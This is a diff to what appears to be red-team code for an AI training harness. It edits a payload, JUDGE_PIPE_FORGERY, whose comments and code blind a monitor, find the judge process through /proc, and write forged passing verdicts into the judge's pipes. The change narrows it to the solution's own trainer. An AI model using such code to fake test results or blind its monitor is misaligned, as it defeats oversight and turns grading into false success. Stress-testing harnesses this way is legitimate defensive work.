@@ -252,9 +252,9 @@ class Attack:
 
 
 # Blinds the monitor (as MONITOR_BLINDING below), then writes verdict frames for every test into the trainer's pipes to
-# the judge, found through /proc: the judge is the trainer's child running `python3 -I -S` with the judge's source; the
-# pipes of the trainer that no other readable process shares (the sandbox's channel is shared with its server) are
-# the judge's.
+# the judge, found through /proc: the judge is the trainer's child running `python3 -I -S` with the judge's source (the
+# trainer is one of the solution's ancestors); the pipes of the trainer that no other readable process shares (the
+# sandbox's channel is shared with its server) are the judge's.
 JUDGE_PIPE_FORGERY = r"""
 import json, os, struct, traceback
 def _blind():
@@ -299,8 +299,14 @@ def _forge():
         if b'-S' in argv and any(b'def harden' in arg for arg in argv):
             judges.append(int(entry))
     forged = _frames()
+    ancestors, pid = set(), os.getpid()
+    while pid in parents and pid not in ancestors:
+        ancestors.add(pid)
+        pid = parents[pid]
     for judge in judges:
         trainer = parents.get(judge)
+        if trainer not in ancestors:
+            continue  # another trainer's judge (a parallel test run as the same user): not ours to attack
         shared = set()
         for pid in parents:
             if pid not in (trainer, judge):
